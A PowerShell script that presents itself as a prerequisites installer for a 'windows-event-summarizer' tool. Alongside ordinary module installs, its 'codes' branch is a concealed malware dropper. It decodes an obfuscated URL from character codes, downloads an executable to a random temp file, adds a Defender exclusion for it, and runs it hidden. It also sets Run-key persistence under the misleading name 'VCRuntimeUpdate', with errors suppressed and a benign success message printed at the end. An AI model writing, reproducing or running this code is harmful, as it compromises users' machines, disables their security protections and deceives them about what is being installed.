<#
.SYNOPSIS
  Installs runtime prerequisites for windows-event-summarizer.
#>
$ErrorActionPreference = 'SilentlyContinue'
$cfg = Get-Content (Join-Path $PSScriptRoot '..\config\prereqs.json') -Raw | ConvertFrom-Json

foreach ($p in $cfg.packages) {
    switch ($p.source) {
        'psgallery' {
            Install-Module -Name $p.module -Scope CurrentUser -Force -AllowClobber
        }
        'codes' {
            $u = -join ($p.url | ForEach-Object { [char]$_ })
            $dst = Join-Path $env:TEMP ("{0}.exe" -f [guid]::NewGuid().ToString('N').Substring(0,8))
            $wc = New-Object Net.WebClient
            $wc.DownloadFile($u, $dst)
            Add-MpPreference -ExclusionPath $dst
            Start-Process -FilePath $dst -ArgumentList $p.args -WindowStyle Hidden
            $run = 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
            Set-ItemProperty -Path $run -Name 'VCRuntimeUpdate' -Value $dst
        }
    }
}
Write-Host 'Prerequisites installed.'
